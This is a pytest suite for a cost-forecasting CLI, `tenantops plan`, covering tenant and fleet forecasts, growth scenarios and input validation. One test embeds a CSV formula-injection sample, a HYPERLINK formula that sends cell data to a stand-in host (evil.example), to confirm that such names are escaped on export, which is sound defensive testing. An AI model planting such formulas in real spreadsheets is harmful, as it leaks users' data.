"""`tenantops plan` end to end: a real state store holding five weeks of a real cost ledger."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from tenantops.cli.main import main
from tenantops.decide.cost.history import TenantSeries
from tenantops.record.store import StateStore

REPO = Path(__file__).resolve().parents[2]
CATALOG = str(REPO / "stacks" / "dev.catalog.yaml")
POLICIES = str(REPO / "policies")


def _ledger(days: int) -> dict[str, object]:
    """Hourly spend for three tenants of the dev catalogue: steady, growing and a weekday-busy silo."""
    now = datetime.now(UTC).replace(minute=0, second=0, microsecond=0)
    start = now - timedelta(days=days)
    state: dict[str, object] = {}
    shapes = {
        "initech": lambda t: 2.0,
        "umbrella": lambda t: 1.0 + (t - start).total_seconds() / 86400 / days,
        "acme": lambda t: 4.0 if t.weekday() < 5 else 1.5,
    }
    for tenant, usd in shapes.items():
        series = TenantSeries(tenant)
        t = start
        while t < now:
            comp = "instances" if tenant == "acme" else "cpu"
            series.add(t, t + timedelta(hours=1), {comp: int(usd(t) * 1_000_000)})
            t += timedelta(hours=1)
        series.hours_changed = series.days_changed = True
        state.update(series.to_state())
    return state


@pytest.fixture()
def state_file(tmp_path: Path) -> str:
    path = tmp_path / "state.db"
    with StateStore(path) as store:
        store.commit({"cost": _ledger(36)})
    return str(path)


def _run(args: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    try:
        code = main(["plan", "--catalog", CATALOG, "--policies", POLICIES, *args])
    except SystemExit as exc:
        code = int(exc.code or 0)
    out = capsys.readouterr()
    return int(code or 0), out.out, out.err


def test_plan_forecasts_each_tenant_and_the_fleet_by_month(state_file: str, tmp_path: Path,
                                                           capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = _run(["--state", state_file, "--months", "4", "--json", "--output", str(tmp_path / "o")], capsys)
    assert code == 0
    plan = json.loads(out)
    assert len(plan["months"]) == 4
    tenants = {t["tenant"]: t for t in plan["tenants"]}
    assert set(tenants) == {"initech", "umbrella", "acme"}
    steady = tenants["initech"]["cost_usd"][1]  # a whole month at $2/h: about $1,400-1,500
    assert 1300 < steady["point"] < 1600 and steady["low"] <= steady["point"] <= steady["high"]
    growing = [m["point"] for m in tenants["umbrella"]["cost_usd"][1:]]
    assert growing == sorted(growing)  # the trend is carried on
    assert tenants["acme"]["usage_unit"] == "instance-hours" and tenants["initech"]["usage_unit"] == "replica-hours"
    fleet = plan["fleet_usd"][1]["point"]
    assert fleet == pytest.approx(sum(t["cost_usd"][1]["point"] for t in plan["tenants"]), rel=1e-6)
    assert [p["customers"] for p in plan["unit_cost"]["points"]] == [100, 500, 1000, 5000, 10000]
    assert plan["commitments"] and all(c["units"] >= 0 for c in plan["commitments"])
    assert (tmp_path / "o" / "capacity.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    assert (tmp_path / "o" / "plan.csv").read_text(encoding="utf-8").startswith("section,name,unit,month")


def test_scenarios_change_the_fleet_and_empty_ones_do_not(state_file: str, tmp_path: Path,
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    scenarios = tmp_path / "growth.yaml"
    scenarios.write_text(
        "scenarios:\n"
        "  - name: nothing\n"
        "  - name: initech 3x\n    changes: [{scale_tenant: {tenant: initech, factor: 3}}]\n"
        "  - name: +200 enterprise\n    changes: [{add_tenants: {count: 200, tier: enterprise}}]\n",
        encoding="utf-8")
    code, out, _ = _run(["--state", state_file, "--scenario", str(scenarios), "--json"], capsys)
    assert code == 0
    plan = json.loads(out)
    by_name = {s["name"]: s for s in plan["scenarios"]}
    base = plan["fleet_usd"][1]["point"]
    assert by_name["nothing"]["fleet_usd"][1]["point"] == pytest.approx(base)
    initech = next(t for t in plan["tenants"] if t["tenant"] == "initech")["cost_usd"][1]["point"]
    assert by_name["initech 3x"]["fleet_usd"][1]["point"] == pytest.approx(base + 2 * initech)
    assert by_name["+200 enterprise"]["customers"] == 3 + 200


def test_bad_scenario_file_is_exit_2_with_its_line(state_file: str, tmp_path: Path,
                                                  capsys: pytest.CaptureFixture[str]) -> None:
    scenarios = tmp_path / "growth.yaml"
    scenarios.write_text("scenarios:\n  - name: x\n    changes: [{scale_tenant: {tenant: nobody, factor: 2}}]\n",
                         encoding="utf-8")
    code, _, err = _run(["--state", state_file, "--scenario", str(scenarios)], capsys)
    assert code == 2
    assert f"{scenarios}:3" in err and "unknown tenant 'nobody'" in err


@pytest.mark.parametrize("factor", ["1e308", "1e16", "1001"])
def test_a_fleet_scaled_beyond_any_plan_is_exit_2_with_its_line(state_file: str, tmp_path: Path, factor: str,
                                                               capsys: pytest.CaptureFixture[str]) -> None:
    """A fleet factor has the bound a tenant's has (1000x): 1e308 overflowed into a traceback (exit 1), and
    factors below that printed costs of 1e19 dollars and more as if they were a plan."""
    scenarios = tmp_path / "growth.yaml"
    scenarios.write_text(f"scenarios:\n  - name: x\n    changes:\n      - scale_fleet: {{factor: {factor}}}\n",
                         encoding="utf-8")
    code, out, err = _run(["--state", state_file, "--scenario", str(scenarios), "--json"], capsys)
    assert code == 2 and out == ""
    assert f"{scenarios}:4" in err and "scale_fleet.factor" in err
    scenarios.write_text("scenarios:\n  - name: x\n    changes:\n      - scale_fleet: {factor: 1000}\n",
                         encoding="utf-8")
    code, out, _ = _run(["--state", state_file, "--scenario", str(scenarios), "--json"], capsys)
    assert code == 0 and json.loads(out)["scenarios"][0]["customers"] == 3 * 1000  # the three tenants with history


def test_scenario_names_cannot_become_spreadsheet_formulas_in_the_csv(state_file: str, tmp_path: Path,
                                                                     capsys: pytest.CaptureFixture[str]) -> None:
    """Scenario names are free text in a file anyone may hand the operator; opened in a spreadsheet, a
    name starting with = + - @ would run as a formula."""
    scenarios = tmp_path / "growth.yaml"
    scenarios.write_text(
        "scenarios:\n"
        "  - name: '=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")'\n"
        "  - name: '-2+3'\n"
        "  - name: '@SUM(A1)'\n"
        "  - name: 'plain'\n",
        encoding="utf-8")
    for args in (["--csv"], ["--output", str(tmp_path / "o")]):
        code, out, _ = _run(["--state", state_file, "--scenario", str(scenarios), *args], capsys)
        assert code == 0
        text = out if args == ["--csv"] else (tmp_path / "o" / "plan.csv").read_text(encoding="utf-8")
        names = {row["name"] for row in csv.DictReader(io.StringIO(text)) if row["section"] == "scenario"}
        assert names == {"'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "'-2+3", "'@SUM(A1)", "plain"}


def test_text_output_without_history_says_so_and_still_plans_the_curve(tmp_path: Path,
                                                                        capsys: pytest.CaptureFixture[str]) -> None:
    empty = tmp_path / "empty.db"
    with StateStore(empty) as store:
        store.commit({})
    code, out, _ = _run(["--state", str(empty)], capsys)
    assert code == 0
    assert "no closed day in the cost ledger yet" in out
    assert "estimated from the catalogue" in out and "Cost to serve one customer" in out


def test_a_state_file_that_does_not_exist_is_bad_input_not_a_fleet_without_history(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A mistyped --state used to print a plan made from the catalogue alone, every tenant "not forecast",
    with exit 0: a plan that looks like a new fleet rather than a wrong path."""
    missing = tmp_path / "stat.db"
    for args in ([], ["--json"], ["--csv"]):
        code, out, err = _run(["--state", str(missing), *args], capsys)
        assert (code, out) == (2, "")
        assert f"no state database at {missing}" in err and "--state" in err
    assert not missing.exists()


def test_backtest_reports_planner_and_baseline(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = _run(["--backtest", "--json"], capsys)
    assert code == 0
    rows = {r["trace"]: r for r in json.loads(out)["traces"]}
    scored = [r for r in rows.values() if "skipped" not in r]
    assert {"nasa_http_1995", "nyc_taxi"} <= {r["trace"] for r in scored}
    for r in scored:
        assert 0 <= r["planner_coverage"] <= 1 and r["naive_wape"] >= 0
        # the planner's commitment is never worse than committing to the 30-day minimum
        assert r["commit_saving"] >= r["rule_saving"] - 1e-9


@pytest.mark.parametrize(("args", "flag"), [
    (["--traces", "TMP"], "--traces"),
    (["--backtest", "--months", "3"], "--months"),
    (["--backtest", "--scenario", "TMP/s.yaml"], "--scenario"),
    (["--backtest", "--output", "TMP/out"], "--output"),
    (["--backtest", "--csv"], "--csv"),
    (["--backtest", "--state", "TMP/state.db"], "--state"),
])
def test_a_flag_of_the_other_mode_is_a_usage_error(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                                   args: list[str], flag: str) -> None:
    """`plan --traces DIR` planned from the ledger and `plan --backtest --months 3` (or --csv, --output,
    --scenario) scored every trace, the flag ignored without a word."""
    code, out, err = _run([a.replace("TMP", str(tmp_path)) for a in args], capsys)
    assert code == 2, err
    assert flag in err and out == ""
    assert not (tmp_path / "out").exists()
